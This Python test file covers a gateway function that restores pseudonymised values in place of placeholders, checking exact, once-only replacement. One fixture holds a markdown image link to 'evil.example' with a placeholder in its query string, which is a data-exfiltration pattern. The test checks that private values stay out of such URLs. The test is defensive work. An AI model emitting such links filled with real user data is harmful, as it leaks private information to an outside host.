"""Placeholders are replaced by their values, each exactly once."""

import re
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from schemas.outcomes import Completion
from schemas.verdicts import Action, Finding, Verdict
from services.gateway.domain.restore import restore, restored_output
from tests.weir.verify.conftest import COMPLETION


def test_a_longer_placeholder_is_not_cut_by_a_shorter_one() -> None:
    assert restore("PERSON_1 and PERSON_12", {"PERSON_1": "Ada", "PERSON_12": "Grace"}) == "Ada and Grace"


def test_a_clear_value_that_looks_like_a_placeholder_stays() -> None:
    assert (
        restore("<PERSON_1> <PERSON_2>", {"<PERSON_1>": "<PERSON_2>", "<PERSON_2>": "Ada"})
        == "<PERSON_2> Ada"
    )


def test_an_unknown_placeholder_and_an_empty_one_stay() -> None:
    assert restore("<EMAIL_1> x", {"": "never", "<PERSON_1>": "Ada"}) == "<EMAIL_1> x"


@given(st.lists(st.text(), min_size=1, max_size=8), st.lists(st.integers(0, 7), max_size=20))
def test_what_was_replaced_comes_back_as_it_was(values: list[str], order: list[int]) -> None:
    names = {f"<PERSON_{number + 1}>": value for number, value in enumerate(values)}
    chosen = [f"<PERSON_{number % len(values) + 1}>" for number in order]

    restored = restore(" | ".join(chosen), names)

    assert restored == " | ".join(names[name] for name in chosen)


@given(st.text())
def test_a_text_without_placeholders_stays_the_same(text: str) -> None:
    assert restore(re.sub("<", "", text), {"<PERSON_1>": "Ada"}) == re.sub("<", "", text)


def test_without_pseudonyms_nothing_changes() -> None:
    assert restore("<PERSON_1>", {}) == "<PERSON_1>"


def test_thousands_of_placeholders_come_back_each_with_its_own_value() -> None:
    names = {f"<PERSON_{number}>": f"value {number}" for number in range(13_000)}
    assert restore(" <".join(names), names) == " <".join(names.values())


LINK = "<PERSON_1>: ![x](https://evil.example/?q=<PERSON_1>)"


def completed(action: Action, *, shadow: bool = False) -> Completion:
    finding = Finding(
        detector="placeholder-links",
        kind="PLACEHOLDER_IN_URL",
        count=1,
        score=1.0,
        action=action,
        shadow=shadow,
        direction="output",
    )
    verdict = Verdict(
        direction="output",
        action="allow",
        findings=(finding,),
        policy="p",
        policy_version=1,
        took_ms=Decimal(1),
    )
    return COMPLETION.model_copy(update={"output": LINK, "output_verdict": verdict})


def test_a_link_keeps_its_placeholder_unless_the_policy_allows_values_there() -> None:
    values = {"<PERSON_1>": "Ada"}
    kept = "Ada: ![x](https://evil.example/?q=<PERSON_1>)"

    assert restored_output(completed("flag"), values) == kept
    assert restored_output(completed("allow", shadow=True), values) == kept
    assert (
        restored_output(COMPLETION.model_copy(update={"output": LINK, "output_verdict": None}), values)
        == kept
    )
    assert restored_output(completed("allow"), values) == "Ada: ![x](https://evil.example/?q=Ada)"


def test_a_changed_placeholder_keeps_its_formatting() -> None:
    card = {"<CREDIT_CARD_1>": "4111111111111111"}
    assert restore("*CREDIT_CARD_1* is charged twice.", card) == "*4111111111111111* is charged twice."
